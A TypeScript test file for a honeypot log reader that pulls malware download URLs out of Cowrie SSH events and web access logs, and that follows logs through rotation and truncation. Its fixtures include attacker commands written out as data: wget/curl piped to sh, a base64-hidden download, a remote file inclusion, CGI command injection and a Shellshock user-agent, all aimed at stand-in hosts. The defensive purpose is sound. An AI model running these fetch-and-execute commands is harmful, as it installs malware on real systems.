import { expect } from 'chai';
import { appendFileSync, mkdtempSync, renameSync, rmSync, writeFileSync } from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { openDoor } from '../../../intake/door.ts';
import { followHoneypot } from '../../../intake/honeypots/follow.ts';
import { newHoneypot, type Honeypot } from '../../../intake/honeypots/honeypot.ts';
import { urlsOfLine } from '../../../intake/honeypots/lines.ts';
import { memoryFrontier } from '../memory-frontier.ts';

const cowrie = (event: object): string => JSON.stringify({ src_ip: '198.51.100.7', session: 'a1', sensor: 'pot', timestamp: '2026-11-25T10:00:00Z', ...event });
const download = (url: string): string => cowrie({ eventid: 'cowrie.session.file_download', url, shasum: 'ab' });

describe('a line of a honeypot', () => {
  const lines: readonly (readonly ['cowrie' | 'access-log', string, string, readonly string[] | null])[] = [
    ['cowrie', 'a download', download('http://drop.example/bins.sh'), ['http://drop.example/bins.sh']],
    ['cowrie', 'a download that failed', cowrie({ eventid: 'cowrie.session.file_download.failed', url: 'http://203.0.113.9:8080/a' }), ['http://203.0.113.9:8080/a']],
    ['cowrie', 'a command', cowrie({ eventid: 'cowrie.command.input', input: 'cd /tmp; wget http://drop.example/x86;curl -O https://two.example/y?a=1&b=2 | sh' }), ['http://drop.example/x86', 'https://two.example/y?a=1&b=2']],
    ['cowrie', 'a command without a scheme', cowrie({ eventid: 'cowrie.command.input', input: 'busybox wget -q 203.0.113.9/mips; chmod 777 mips' }), ['http://203.0.113.9/mips']],
    ['cowrie', 'a command in base64', cowrie({ eventid: 'cowrie.command.input', input: `echo ${Buffer.from('wget http://hidden.example/z').toString('base64')} | base64 -d | sh` }), ['http://hidden.example/z']],
    ['cowrie', 'a log-in', cowrie({ eventid: 'cowrie.login.failed', username: 'root', password: 'http' }), []],
    ['cowrie', 'no event', '{"a":1}', null],
    ['cowrie', 'no JSON', 'half a line', null],
    ['access-log', 'a parameter that includes a remote file', '198.51.100.7 - - [25/Nov/2026:10:00:00 +0000] "GET /index.php?page=http%3A%2F%2Fdrop.example%2Fc99.txt%3F HTTP/1.1" 404 12 "-" "Mozilla/5.0"', ['http://drop.example/c99.txt']],
    ['access-log', 'a command', '198.51.100.7 - - [25/Nov/2026:10:00:00 +0000] "POST /cgi-bin/x?cmd=cd+/tmp;wget+http://203.0.113.9/arm7;sh+arm7 HTTP/1.1" 500 0', ['http://203.0.113.9/arm7']],
    ['access-log', 'a program\'s name that is a command', '198.51.100.7 - - [25/Nov/2026:10:00:00 +0000] "GET / HTTP/1.1" 200 1 "-" "() { :;}; /bin/bash -c \'curl http://drop.example/s\'"', ['http://drop.example/s']],
    ['access-log', 'a page that led here, and a robot\'s page', '198.51.100.7 - - [25/Nov/2026:10:00:00 +0000] "GET /about HTTP/1.1" 200 1 "https://search.example/q" "Robot/1.0 (+https://robot.example/)"', []],
    ['access-log', 'a question for a proxy', '198.51.100.7 - - [25/Nov/2026:10:00:00 +0000] "GET http://check.example/ HTTP/1.1" 400 0 "-" "-"', []],
    ['access-log', 'no line of such a log', 'nonsense', null],
  ];
  for (const [kind, what, line, urls] of lines) it(`of ${kind}: ${what}`, () => { expect(urlsOfLine[kind](line)).to.deep.equal(urls); });

  it('is read fast, whatever it holds', () => {
    for (const text of ['wget ', '"GET ', 'a.', '%2525', '${', '&a='].map((piece) => piece.repeat(60_000 / piece.length))) {
      const before = process.cpuUsage();
      urlsOfLine['access-log'](`x "GET /?${text} HTTP/1.1" 200 1 "-" "${text}`);
      urlsOfLine.cowrie(cowrie({ eventid: 'x', input: text }));
      expect(process.cpuUsage(before).user / 1000, text.slice(0, 10)).to.be.lessThan(2000);
    }
  });
});

describe('a honeypot\'s log', () => {
  let folder = '';
  let file = '';
  beforeEach(() => { folder = mkdtempSync(path.join(os.tmpdir(), 'harrier-pot-')); file = path.join(folder, 'cowrie.json'); });
  afterEach(() => { rmSync(folder, { recursive: true }); });
  const pot = (): Honeypot => ({ name: 'ssh', file, kind: 'cowrie', priority: 1, trust: 0.8 });
  const system = (): { options: Parameters<typeof followHoneypot>[2]; offered: () => string[] } => {
    const frontier = memoryFrontier();
    return { options: { door: openDoor({ frontier, now: () => 5, labMode: false }), now: () => 5, signal: new AbortController().signal }, offered: () => frontier.offers().map(({ url, source }) => `${source} ${url}`) };
  };

  it('is read from where it was left, up to its last whole line', async () => {
    const { options, offered } = system();
    writeFileSync(file, `${download('http://a.example/1')}\n${download('http://a.example/2').slice(0, 20)}`);
    const first = await followHoneypot(pot(), newHoneypot, options);
    expect(offered()).to.deep.equal(['honeypot:ssh http://a.example/1']);
    appendFileSync(file, `${download('http://a.example/2').slice(20)}\n`);
    const second = await followHoneypot(pot(), first, options);
    expect(offered()).to.deep.equal(['honeypot:ssh http://a.example/1', 'honeypot:ssh http://a.example/2']);
    expect(second).to.deep.include({ lines: 2, urls: 2, fresh: 2, unreadable: 0, failures: 0 });
    expect(JSON.stringify(second)).to.not.include('198.51');
  });

  it('that was rotated away is read to its end, then the new one', async () => {
    const { options, offered } = system();
    writeFileSync(file, `${download('http://a.example/1')}\n`);
    let state = await followHoneypot(pot(), newHoneypot, options);
    appendFileSync(file, `${download('http://a.example/2')}\n`);
    renameSync(file, `${file}.2026-11-25`);
    writeFileSync(file, `${download('http://a.example/3')}\n`);
    state = await followHoneypot(pot(), state, options);
    state = await followHoneypot(pot(), state, options);
    expect(offered().map((one) => one.slice(-1))).to.deep.equal(['1', '2', '3']);
    expect(state.lines).to.equal(3);
  });

  it('that was cut short in its place is read from its start', async () => {
    const { options, offered } = system();
    writeFileSync(file, `${download('http://a.example/1')}\n${download('http://a.example/2')}\n`);
    const state = await followHoneypot(pot(), newHoneypot, options);
    writeFileSync(file, `${download('http://a.example/3')}\n`);
    await followHoneypot(pot(), state, options);
    expect(offered()).to.have.length(3);
  });

  it('that is missing, or of another kind, says so and is tried again later', async () => {
    const { options } = system();
    expect(await followHoneypot(pot(), newHoneypot, options)).to.deep.include({ failures: 1, lastProblem: `${file} can't be read (ENOENT)`, nextAtMs: 4005 });
    writeFileSync(file, 'no json\n'.repeat(30));
    expect((await followHoneypot(pot(), newHoneypot, options)).lastProblem).to.match(/is its kind right\?/);
  });

  it('holds no line that is too long: it is left behind', async () => {
    const { options, offered } = system();
    writeFileSync(file, `${'x'.repeat(5000)}\n${download('http://a.example/1')}\n`);
    let state = newHoneypot;
    for (let turn = 0; turn < 8; turn += 1) state = await followHoneypot(pot(), state, { ...options, bytesPerTurn: 1000 });
    expect(offered()).to.deep.equal(['honeypot:ssh http://a.example/1']);
  });

  it('is read again where the door failed', async () => {
    writeFileSync(file, `${download('http://a.example/1')}\n`);
    const failure = await followHoneypot(pot(), newHoneypot, { ...system().options, door: { submit: () => Promise.reject(new Error('no Redis')) } }).then(() => null, (error: unknown) => error);
    expect(failure).to.be.an('error').with.property('message', 'no Redis');
  });
});
